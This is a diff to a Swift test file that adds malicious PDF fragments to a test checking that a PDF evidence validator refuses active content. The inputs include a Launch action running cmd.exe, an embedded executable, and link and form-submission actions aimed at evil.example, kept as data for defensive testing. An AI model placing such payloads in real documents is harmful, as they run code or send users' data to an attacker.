@@ -255,6 +255,12 @@ struct EvidencePDFTests {
         "/OpenAction << /S /Launch /F (cmd.exe) >>",
         "/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /EmbeddedFile >>] >> >>",
         "/AcroForm << /XFA 9 0 R >>",
+        // Issue 7 finding 6: links, form submission and actions on opening were accepted.
+        "/OpenAction 3 0 R",
+        "/AA << /O << /S /GoTo /D [0 /Fit] >> >>",
+        "/Annots [<< /Subtype /Link /A << /S /URI /URI (https://evil.example/) >> >>]",
+        "/AcroForm << /Fields [<< /A << /S /SubmitForm /F (https://evil.example/) >> >>] >>",
+        "/OpenAction << /S /GoToR /F (other.pdf) >>",
     ])
     func refusesActiveContent(extra: String) {
         // setup
